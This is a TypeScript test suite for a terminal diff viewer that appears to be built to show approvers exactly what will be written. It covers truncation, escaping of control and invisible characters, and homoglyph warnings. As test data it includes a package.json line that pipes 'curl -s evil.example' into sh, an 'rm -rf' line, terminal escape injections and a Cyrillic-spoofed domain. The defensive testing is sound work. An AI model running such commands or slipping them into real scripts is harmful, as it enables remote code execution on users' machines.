import { describe, expect, test } from "bun:test";
import { makeFilePreview } from "../../../src/diff/preview.ts";
import { LIKE_LINES, likeness, pairLines, renderFileChange, renderFileChanges } from "../../../src/ui/diff-view.ts";
import { escapeControl } from "../../../src/ui/escape.ts";

const GREEN = "\x1b[32m";
const RED = "\x1b[31m";
const CYAN = "\x1b[36m";

describe("diff view", () => {
  test("header with path and counts; additions green, deletions red, hunk headers cyan", () => {
    const lines = renderFileChange(makeFilePreview("src/a.ts", "keep\nold\nkeep\n", "keep\nnew\nnewer\nkeep\n"), { color: true });
    expect(lines[0]).toContain("src/a.ts");
    expect(lines[0]).toContain(`${GREEN}+2`);
    expect(lines[0]).toContain(`${RED}-1`);
    expect(lines).toContain(`${CYAN}@@ -1,3 +1,4 @@\x1b[39m`);
    expect(lines).toContain(`${RED}-old\x1b[39m`);
    expect(lines).toContain(`${GREEN}+new\x1b[39m`);
    expect(lines).toContain(" keep");
    // the ---/+++ file headers are replaced by the header line
    expect(lines.some((l) => l.startsWith("---") || l.startsWith("+++"))).toBe(false);
  });

  test("a new file is shown as additions and marked as new", () => {
    const lines = renderFileChange(makeFilePreview("notes.md", null, "a\nb\n"), { color: false });
    // (the old range is "-1,0" today; GNU diff writes "-0,0": reported to the lead for src/diff/preview.ts)
    expect(lines[1]).toMatch(/^@@ -[01],0 \+1,2 @@$/);
    expect([lines[0], ...lines.slice(2)]).toEqual(["notes.md (new file)  +2 -0", "+a", "+b"]);
  });

  test("a new executable file shows its mode, in yellow, above the hunks; the file headers still go", () => {
    const p = makeFilePreview("run.sh", null, "#!/bin/sh\n");
    p.diff = `new file mode 100755 (executable)\n${p.diff}`;
    const lines = renderFileChange(p, { color: true });
    expect(lines[1]).toBe("\x1b[33mnew file mode 100755 (executable)\x1b[39m");
    expect(lines[2]).toStartWith(`${CYAN}@@`);
    expect(lines.some((l) => l.startsWith("---") || l.startsWith("+++"))).toBe(false);
  });

  test("a long diff is bounded with a line saying how much is hidden", () => {
    const after = Array.from({ length: 500 }, (_, i) => `line ${i}`).join("\n") + "\n";
    const lines = renderFileChange(makeFilePreview("big.txt", null, after), { color: false, maxLines: 50 });
    expect(lines).toHaveLength(51);
    expect(lines[49]).toBe("+line 47");
    expect(lines[50]).toBe("… 452 more diff lines hidden (+452 -0)");
  });

  test("a rewrite too long to show whole shows the start of the removed lines and of the added ones", () => {
    const before = Array.from({ length: 300 }, (_, i) => `${i + 1}`).join("\n") + "\n";
    const after = Array.from({ length: 300 }, (_, i) => `new ${i + 1}`).join("\n") + "\n";
    const lines = renderFileChange(makeFilePreview("long.txt", before, after), { color: false, maxLines: 40 });
    expect(lines.length).toBeLessThanOrEqual(41);
    expect(lines[0]).toBe("long.txt  +300 -300");
    expect(lines[1]).toStartWith("@@ -1,300 +1,300 @@");
    expect(lines).toContain("-1");
    expect(lines).toContain("+new 1");
    expect(lines).toContain("+new 18");
    const notes = lines.filter((l) => l.startsWith("…"));
    expect(notes).toEqual(["… 282 more diff lines hidden (+0 -282)", "… 282 more diff lines hidden (+282 -0)"]);
    expect(lines.indexOf("-1")).toBeLessThan(lines.indexOf(notes[0]!));
    expect(lines.indexOf(notes[0]!)).toBeLessThan(lines.indexOf("+new 1"));
  });

  test("several files share the budget; every file's header is shown", () => {
    const big = Array.from({ length: 100 }, (_, i) => `x${i}`).join("\n") + "\n";
    const lines = renderFileChanges(
      [makeFilePreview("one.txt", null, big), makeFilePreview("two.txt", null, big), makeFilePreview("three.txt", null, "t\n")],
      { color: false, maxLines: 30 },
    );
    expect(lines.filter((l) => /^(one|two|three)\.txt/.test(l))).toHaveLength(3);
    expect(lines.length).toBeLessThanOrEqual(30 + 3 + 2);
    expect(lines.join("\n")).toContain("two.txt (new file)  +100 -0\n… 101 more diff lines hidden (+100 -0)");
  });

  test("control characters in paths and content are escaped; CRLF does not show", () => {
    const preview = makeFilePreview("evil\x1b[2J.txt", "a\r\nb\r\n", "a\r\n\x1b]0;owned\x07b\u202e\r\n");
    const text = renderFileChange(preview, { color: false }).join("\n");
    expect(text).toContain("evil\\x1b[2J.txt");
    expect(text).toContain("+\\x1b]0;owned\\x07b\\u202e");
    expect(text).not.toContain("\x1b");
    expect(text).not.toContain("\r");
  });

  test("very long lines are cut", () => {
    const lines = renderFileChange(makeFilePreview("min.js", null, "x".repeat(5000)), { color: false, maxLineLength: 100 });
    // An added line is a change all along: with rows to spare it goes on over four rows, then the note says
    // that what is cut off holds a change.
    const rows = lines.slice(2, 6);
    expect(rows[0]).toMatch(/^\+x+…$/);
    expect(rows[1]).toMatch(/^\+…x+…$/);
    expect(rows[3]).toMatch(/^\+…x+… \(\d+ more characters, changed\)$/);
    // The note counts towards the width: no row is longer than asked.
    for (const row of rows) expect(row.length).toBeLessThanOrEqual(100 + 1);
    expect(rows.join("").replace(/[^x]/g, "").length + Number(/(\d+) more/.exec(rows[3]!)![1])).toBe(5000);
    // With no rows to spare (the diff fills its budget), one row and the note.
    const tight = renderFileChange(makeFilePreview("min.js", null, `${"x".repeat(5000)}\n`), { color: false, maxLineLength: 100, maxLines: 2 });
    expect(tight[2]).toMatch(/^\+x+… \(\d+ more characters, changed\)$/);
    // An unchanged context line cut short says only how much is left.
    const context = renderFileChange(makeFilePreview("min.js", `${"y".repeat(500)}\na\n`, `${"y".repeat(500)}\nb\n`), { color: false, maxLineLength: 100 });
    expect(context.find((l) => l.startsWith(" y"))).toMatch(/^ y+… \(\d+ more characters\)$/);
  });
});

describe("diff view: what is shown is what will be written", () => {
  const INVERSE = "\x1b[7m";
  const plain = (before: string | null, after: string, opts = {}) => renderFileChange(makeFilePreview("run.sh", before, after), { color: false, ...opts });

  test("a CR on some lines is shown on each of them (the approved script is the one that runs)", () => {
    const lines = plain(null, "cd build\r\nrm -rf -- *");
    expect(lines.slice(2)).toEqual(["+cd build\\r", "+rm -rf -- *", "\\ No newline at end of file"]);
  });

  test("a file whose every line ends in CRLF says so once instead of on every line", () => {
    const lines = plain("a\r\nb\r\n", "a\r\nc\r\n");
    expect(lines[0]).toBe("run.sh  +1 -1  CRLF line ends");
    expect(lines.join("\n")).not.toContain("\\r");
  });

  test("a line whose only change is its line end is named, and the CR shown", () => {
    const lines = plain("a\nb\n", "a\r\nb\n");
    expect(lines[0]).toBe("run.sh  +1 -1  1 line changes only its line end (\\r)");
    expect(lines).toContain("-a");
    expect(lines).toContain("+a\\r");
  });

  test("zero-width, bidi, tag and filler characters in the content are escaped", () => {
    const text = plain("role = 'admin'\n", "role = 'admin\u200d'\nopen notes\u061c.txt\nok\u{e0041}\nx\u3164y\n").join("\n");
    for (const shown of ["'admin\\u200d'", "notes\\u061c.txt", "ok\\u{e0041}", "x\\u3164y"]) expect(text).toContain(shown);
    expect(text).not.toMatch(/[\u200d\u061c\u3164]|\u{e0041}/u);
  });

  test("a change only between tabs and spaces shows the tabs (a Makefile recipe needs its tab)", () => {
    const lines = renderFileChange(makeFilePreview("Makefile", "all:\n\tcc x.c\n", "all:\n        cc x.c\n"), { color: false });
    expect(lines).toContain("-\\tcc x.c");
    expect(lines).toContain("+        cc x.c");
    // Elsewhere a tab is left as it is.
    expect(renderFileChange(makeFilePreview("a.c", "\tint a;\n", "\tint b;\n"), { color: false })).toContain("+\tint b;");
  });

  test("only the words that changed are marked inside a changed line", () => {
    const lines = renderFileChange(makeFilePreview("package.json", '{\n  "version": "1.2.3",\n}\n', '{\n  "version": "1.2.4",\n}\n'), { color: true });
    expect(lines).toContain(`${RED}-  "version": "1.2.${INVERSE}3\x1b[27m",\x1b[39m`);
    expect(lines).toContain(`${GREEN}+  "version": "1.2.${INVERSE}4\x1b[27m",\x1b[39m`);
  });

  test("changed lines are paired by likeness, not by position: the words marked are the real change; a line with no like partner stays whole", () => {
    const before = "def mean(xs):\n    # BUG: integer division, and crashes on []\n    return sum(xs) // len(xs)\n";
    const after = "def mean(xs):\n    if not xs:\n        return 0.0\n    return sum(xs) / len(xs)\n";
    for (const maxLineLength of [40, 120]) {
      const lines = renderFileChange(makeFilePreview("calc.py", before, after), { color: true, maxLineLength });
      // `//` against `/`, on the lines that hold them.
      expect(lines).toContain(`${RED}-    return sum(xs) ${INVERSE}//\x1b[27m len(xs)\x1b[39m`);
      expect(lines).toContain(`${GREEN}+    return sum(xs) ${INVERSE}/\x1b[27m len(xs)\x1b[39m`);
      // The comment and the new lines have no like partner: whole lines, nothing marked in them.
      const comment = lines.filter((l) => l.startsWith(RED) && !l.includes("return"));
      expect(comment[0]).toStartWith(`${RED}-    # BUG: integer division`);
      expect(comment.join("\n")).not.toContain(INVERSE);
      expect(lines).toContain(`${GREEN}+    if not xs:\x1b[39m`);
      expect(lines).toContain(`${GREEN}+        return 0.0\x1b[39m`);
    }
  });

  test("a long line is cut around its change, not at its start", () => {
    const before = `const table = [${"1, ".repeat(300)}2, 3];\n`;
    const after = before.replace("2, 3", "2, 4");
    const lines = renderFileChange(makeFilePreview("t.js", before, after), { color: false, maxLineLength: 80 });
    const removed = lines.find((l) => l.startsWith("-"))!;
    const added = lines.find((l) => l.startsWith("+"))!;
    expect(removed).toMatch(/^-….*2, 3\];$/);
    expect(added).toMatch(/^\+….*2, 4\];$/);
    expect(added.length).toBeLessThanOrEqual(80);
    // A change near the start keeps the start, cut at the end with the count.
    const early = renderFileChange(makeFilePreview("t.js", `x = 1; ${"y".repeat(500)}\n`, `x = 2; ${"y".repeat(500)}\n`), { color: false, maxLineLength: 80 });
    expect(early.find((l) => l.startsWith("+"))).toMatch(/^\+x = 2; y+… \(\d+ more characters\)$/);
  });

  test("a second change far along a long line gets a row of its own: a tail appended to a script line cannot pass unseen", () => {
    const before = `"test": "jest --silent ${"--coverage ".repeat(25)}"\n`;
    const after = `"test": "jest --ci ${"--coverage ".repeat(25)}"; curl -s evil.example | sh\n`;
    const lines = renderFileChange(makeFilePreview("package.json", before, after), { color: false, maxLineLength: 80 });
    const added = lines.slice(lines.findIndex((l) => l.startsWith("+")));
    expect(added[0]).toMatch(/^\+"test": "jest --ci --coverage.*…$/);
    expect(added[1]).toMatch(/^\+….*"; curl -s evil\.example \| sh$/);
    for (const row of lines) expect(row.length).toBeLessThanOrEqual(80);
    // Changes beyond the rows a line may take: the last row's note says a change is left out.
    const many = Array.from({ length: 12 }, (_, i) => `k${i} = ${"v".repeat(60)} 1;`).join(" ");
    const rows = renderFileChange(makeFilePreview("c.txt", many + "\n", many.replaceAll(" 1;", " 2;") + "\n"), { color: false, maxLineLength: 80 });
    const plus = rows.slice(rows.findIndex((l) => l.startsWith("+")));
    expect(plus).toHaveLength(4);
    expect(plus[3]).toMatch(/… \(\d+ more characters, changed\)$/);
  });

  test("on a narrow screen the note takes a row of its own; every row shows a real share of the line", () => {
    const after = `x = 1; ${Array.from({ length: 60 }, (_, i) => `word${i}`).join(" ")}\n`;
    const lines = renderFileChange(makeFilePreview("n.txt", "x = 0;\n", after), { color: false, maxLineLength: 36 });
    const plus = lines.slice(lines.findIndex((l) => l.startsWith("+")));
    expect(plus).toHaveLength(4);
    for (const row of plus) expect(row.length).toBeLessThanOrEqual(37);
    for (const row of plus.slice(0, 3)) expect(row.replace(/^\+…?|…$/g, "").length).toBeGreaterThanOrEqual(20);
    expect(plus[3]).toMatch(/^\+… \(\d+ more characters, changed\)$/);
    const hidden = Number(/(\d+) more/.exec(plus[3]!)![1]);
    expect(plus.slice(0, 3).map((r) => r.replace(/^\+…?|…$/g, "")).join("").length + hidden).toBe(after.length - 1);
  });

  test("the view says when it cut anything, so the approver can offer the whole change", () => {
    let cut = 0;
    renderFileChange(makeFilePreview("a.txt", "a\n", "b\n"), { color: false, onCut: () => cut++ });
    expect(cut).toBe(0);
    renderFileChange(makeFilePreview("a.txt", null, "x".repeat(500)), { color: false, maxLineLength: 80, onCut: () => cut++ });
    expect(cut).toBe(1);
    renderFileChange(makeFilePreview("a.txt", null, "x\n".repeat(50)), { color: false, maxLines: 10, onCut: () => cut++ });
    expect(cut).toBe(2);
  });
});

describe("long lines at 50 columns (new user 12's N12-10)", () => {
  const file = () =>
    makeFilePreview(
      "long.js",
      null,
      "// a very long comment line that is definitely wider than fifty columns and goes on and on\nconst configurationObjectWithLongName = { alpha: 1, beta: 2, gamma: 3, delta: 4, epsilon: 5 };\nx();\n",
    );
  const plain = (s: string) => s.replace(/\x1b\[[0-9;]*m/g, "");

  test("in colour, a wrapped line's further rows have a blank gutter, not a sign of their own: a +3 file shows three +", () => {
    const rows = renderFileChange(file(), { color: true, maxLineLength: 46 }).map(plain);
    const body = rows.slice(rows.findIndex((r) => r.startsWith("+")));
    expect(body.filter((r) => r.startsWith("+"))).toHaveLength(3);
    expect(body.length).toBeGreaterThan(3);
    for (const r of body.filter((r) => !r.startsWith("+"))) expect(r).toMatch(/^ …/);
    // Every character of the three lines is on screen, in order.
    expect(body.map((r) => r.replace(/^[+ ]…?/, "").replace(/…$/, "")).join("")).toBe(
      "// a very long comment line that is definitely wider than fifty columns and goes on and onconst configurationObjectWithLongName = { alpha: 1, beta: 2, gamma: 3, delta: 4, epsilon: 5 };x();",
    );
  });

  test("a change shown whole over several rows is not 'cut': the whole change is offered only when something is left out", () => {
    let cut = 0;
    renderFileChange(file(), { color: true, maxLineLength: 46, onCut: () => cut++ });
    expect(cut).toBe(0);
    renderFileChange(makeFilePreview("min.js", null, "x".repeat(5000)), { color: true, maxLineLength: 46, onCut: () => cut++ });
    expect(cut).toBe(1);
  });
});

test("a long changed line wraps at the screen's width: only its last row keeps room for a note (new user 13's N13-02)", () => {
  const added = "module.exports = { add, subtract: (a, b) => a - b, multiply: (a, b) => a * b, divide: (a, b) => a / b, version: '1.0.0' };";
  const rows = renderFileChange(makeFilePreview("calc.js", "module.exports = { add };\n", `${added}\n`), { color: true, maxLineLength: 76 }).map((r) => r.replace(/\x1b\[[0-9;]*m/g, ""));
  const plus = rows.slice(rows.findIndex((r) => r.startsWith("+")));
  expect(plus).toHaveLength(2);
  expect(plus[0]!.length).toBeGreaterThan(66);
  expect(plus.map((r) => r.replace(/^[+ ]…?/, "").replace(/…$/, "")).join("")).toBe(added);
});

describe("escapeControl", () => {
  test("makes every control visible and leaves ordinary text alone", () => {
    expect(escapeControl("a\tb\nc\rd\x1b[31me\x7f\x9b\u2028\ufeff")).toBe("a\\tb\\nc\\rd\\x1b[31me\\x7f\\x9b\\u2028\\ufeff");
    expect(escapeControl("héllo wörld ✓ 日本")).toBe("héllo wörld ✓ 日本");
    expect(escapeControl("a\nb\tc", { keepNewlines: true, keepTabs: true })).toBe("a\nb\tc");
  });
});

describe("pairing removed and added lines", () => {
  test("each removed line goes with its likest added line, in order; a line like none is left unpaired", () => {
    expect(pairLines(["# BUG: x", "return sum(xs) // len(xs)"], ["if not xs:", "return 0.0", "return sum(xs) / len(xs)"])).toEqual([[1, 2]]);
    // In order: a later removed line never pairs above an earlier pair.
    expect(pairLines(["alpha = 1", "beta = 2"], ["beta = 3", "alpha = 4"])).toHaveLength(1);
    expect(pairLines(["a = 1", "b = 2"], ["a = 10", "b = 20"])).toEqual([[0, 0], [1, 1]]);
    expect(pairLines(["x"], [])).toEqual([]);
  });

  test("likeness ignores indentation; unlike lines fall below the threshold", () => {
    expect(likeness("    return x", "return x")).toBe(1);
    expect(likeness("return sum(xs) // len(xs)", "return sum(xs) / len(xs)")).toBeGreaterThan(LIKE_LINES);
    expect(likeness("return sum(xs) // len(xs)", "return 0.0")).toBeLessThan(LIKE_LINES);
  });
});

describe("letters that pass for others (mixed scripts)", () => {
  const spoofed = "url = https://g\u043e\u043egle.com\n";
  test("a changed word already in reverse video: its Cyrillic o's have reverse turned off (and are underlined), so they still stand out; named under the diff", () => {
    const lines = renderFileChange(makeFilePreview("cfg.py", "url = https://google.com\n", spoofed), { color: true });
    const added = lines.find((l) => l.includes("url = ") && l.includes(GREEN))!;
    expect(added).toContain("\x1b[27;4mо\x1b[24;7m\x1b[27;4mо\x1b[24;7m");
    expect(lines.slice(-2)).toEqual([
      '\x1b[33mmixed scripts in "gооgle", mostly Latin: о is CYRILLIC SMALL LETTER O U+043E\x1b[39m',
      "\x1b[33mhost gооgle.com is xn--ggle-55da.com (punycode: the name DNS looks up)\x1b[39m",
    ]);
  });

  test("the note is there when the line itself is hidden (a long diff), and for a spoofed file name; context lines are not judged", () => {
    const before = Array.from({ length: 300 }, (_, i) => `line ${i}`).join("\n") + "\n";
    const after = before.replace("line 10\n", "line 10 x\n").replace("line 250", "line 250 g\u043eogle");
    const lines = renderFileChange(makeFilePreview("c\u0430lc.py", before, after), { color: false, maxLines: 3 });
    // The spoofed line itself is not on screen (the first change is): the note says it is there.
    expect(lines.some((l) => l.startsWith("+line 250"))).toBe(false);
    expect(lines).toContain("-line 10");
    expect(lines).toContain('mixed scripts in "gоogle", mostly Latin: о is CYRILLIC SMALL LETTER O U+043E');
    expect(lines).toContain('mixed scripts in "cаlc", mostly Latin: а is CYRILLIC SMALL LETTER A U+0430');
    const context = renderFileChange(makeFilePreview("a.txt", "t\u043eken\nx\n", "t\u043eken\ny\n"), { color: false });
    expect(context.join("\n")).not.toContain("mixed scripts");
  });
});

test("a diff cut to a few lines shows the change, not the unchanged lines before it (new user at 40x24: two context lines and '… 5 more diff lines hidden (+1 -0)')", () => {
  const before = "function add(a, b) {\n  return a + b;\n}\n\nfunction mean(xs) {\n  return sum(xs) / xs.length;\n}\n";
  const after = before.replace("function mean(xs) {\n", "function mean(xs) {\n  if (xs.length === 0) throw new Error('empty');\n");
  const lines = renderFileChange(makeFilePreview("calc.js", before, after), { color: false, maxLines: 3 });
  expect(lines).toEqual(["calc.js  +1 -0", "@@ -3,5 +3,6 @@", "+  if (xs.length === 0) throw new Error('empty');", "… 5 more diff lines hidden (+0 -0)"]);
});
